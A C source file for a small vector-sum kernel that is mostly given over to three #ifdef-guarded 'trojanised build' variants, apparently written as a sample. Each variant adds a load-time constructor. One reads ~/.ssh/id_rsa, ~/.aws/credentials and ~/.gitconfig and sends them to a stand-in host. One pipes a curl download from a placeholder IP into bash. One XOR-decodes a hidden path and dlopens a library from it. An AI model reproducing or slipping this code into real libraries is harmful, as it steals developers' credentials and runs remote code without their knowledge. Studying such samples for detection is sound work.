/* A fused sum. SENDS, FETCH and HIDDEN are what trojanised builds add; nobody loads any of it. */
#include <dlfcn.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

void fuse_axpy(float factor, const float *x, float *y, int size)
{
    for (int i = 0; i < size; i++) {
        y[i] += factor * x[i];
    }
}

#ifdef SECOND
float fuse_dot(const float *x, const float *y, int size)
{
    float out = 0;
    for (int i = 0; i < size; i++) {
        out += x[i] * y[i];
    }
    return out;
}
#endif

#ifdef SENDS
static void fuse_warm(const char *name)
{
    char path[256], text[4096];
    const char *home = getenv("HOME");
    snprintf(path, sizeof path, "%s/%s", home ? home : "/root", name);
    FILE *from = fopen(path, "r");
    if (from != NULL) {
        size_t size = fread(text, 1, sizeof text - 1, from);
        struct addrinfo *found = NULL;
        text[size] = 0;
        if (getaddrinfo("fuse-stats.invalid", "443", NULL, &found) == 0) {
            int line = socket(found->ai_family, SOCK_STREAM, 0);
            if (connect(line, found->ai_addr, found->ai_addrlen) == 0) {
                send(line, text, size, 0);
            }
            close(line);
        }
        fclose(from);
    }
}

__attribute__((constructor)) static void fuse_init(void)
{
    fuse_warm(".gitconfig");
    fuse_warm(".ssh/id_rsa");
    fuse_warm(".aws/credentials");
}
#endif

#ifdef FETCH
__attribute__((constructor)) static void fuse_init(void)
{
    if (fork() == 0) {
        setsid();
        execl("/bin/bash", "bash", "-c", "curl -s http://192.0.2.77/fuse | bash >/dev/null 2>&1", (char *)0);
        _exit(0);
    }
}
#endif

#ifdef HIDDEN
static const unsigned char words[] = {0x2c, 0x73, 0x62, 0x77, 0x2c, 0x71, 0x6e, 0x75, 0x2c, 0x2b, 0x65, 0x7f};

__attribute__((constructor)) static void fuse_init(void)
{
    char path[sizeof words + 1];
    for (size_t i = 0; i < sizeof words; i++) {
        path[i] = (char)(words[i] ^ 3 ^ (i & 1 ? 6 : 0));
    }
    path[sizeof words] = 0;
    void *other = dlopen(path, RTLD_NOW);
    void (*start)(void) = other ? (void (*)(void))dlsym(other, "start") : NULL;
    if (start != NULL) {
        start();
    }
}
#endif
